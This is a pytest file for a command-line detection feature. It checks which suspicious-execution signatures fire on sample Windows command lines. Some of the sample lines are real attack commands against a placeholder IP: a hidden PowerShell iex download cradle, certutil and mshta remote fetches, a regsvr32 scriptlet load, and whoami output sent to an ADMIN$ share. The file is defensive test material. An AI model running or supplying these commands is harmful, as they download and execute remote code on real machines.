from __future__ import annotations

import polars as pl
import pytest

from vedette.features.command_decode import decode
from vedette.features.command_run import RUN_SIGNS
from vedette.features.sign import signs_of


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("powershell -nop -w hidden -c iex (iwr http://192.0.2.7/a)", {"ps_cradle", "ps_fetch", "ps_hidden", "ps_iex"}),
        ("certutil -urlcache -f http://192.0.2.7/a C:\\Temp\\a.exe", {"certutil_fetch"}),
        ("certutil -urlcache * delete", set()),
        ("regsvr32 /s /n /u /i:http://192.0.2.7/a.sct scrobj.dll", {"regsvr32_script"}),
        ("regsvr32 /s C:\\Windows\\System32\\a.dll", set()),
        ("rundll32.exe C:\\Windows\\Installer\\MSI12ab.tmp,zzzzInvokeManagedCustomActionOutOfProc x", set()),
        ("rundll32.exe C:\\Users\\ann\\Downloads\\a.log,Start", {"rundll32_user", "rundll32_ending"}),
        ("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1577.12 2>&1", {"output_share", "admin_share"}),
        ("msiexec /i C:\\Install\\office.msi /qn", set()),
        ("mshta http://192.0.2.7/a.hta", {"mshta_web", "mshta_file"}),
        ("C:\\Windows\\system32\\svchost.exe -k netsvcs -p", set()),
    ],
)
def test_lines_and_their_signs(line: str, names: set[str]) -> None:
    held = signs_of(decode(pl.Series([line])), RUN_SIGNS)[0]
    assert {RUN_SIGNS[i].name for i in held} == names
